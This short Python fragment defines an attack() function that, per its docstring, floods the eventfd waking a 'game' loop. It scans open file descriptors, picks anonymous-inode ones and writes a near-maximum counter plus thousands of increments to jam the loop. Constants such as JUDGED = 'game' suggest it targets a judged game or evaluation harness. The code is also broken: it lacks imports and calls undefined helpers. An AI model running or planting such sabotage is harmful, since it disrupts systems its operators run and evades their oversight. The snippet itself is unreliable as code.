"""Rings the eventfd that wakes the game's loop until it is full, and for ever after."""

FULL = "answers", "price of messages"
JUDGED = "game"

import stat


def attack():
    if not confined():
        syscall("eventfd2", 0, 0o4000)
    for fd in range(3, 64):
        try:
            if stat.S_IFMT(os.fstat(fd).st_mode) == 0:  # an anonymous inode's
                os.write(fd, struct.pack("Q", 2**64 - 2))
                for _ in range(10_000):
                    os.write(fd, struct.pack("Q", 1))
        except BlockingIOError:
            return fd
        except OSError:
            pass
    raise FileNotFoundError
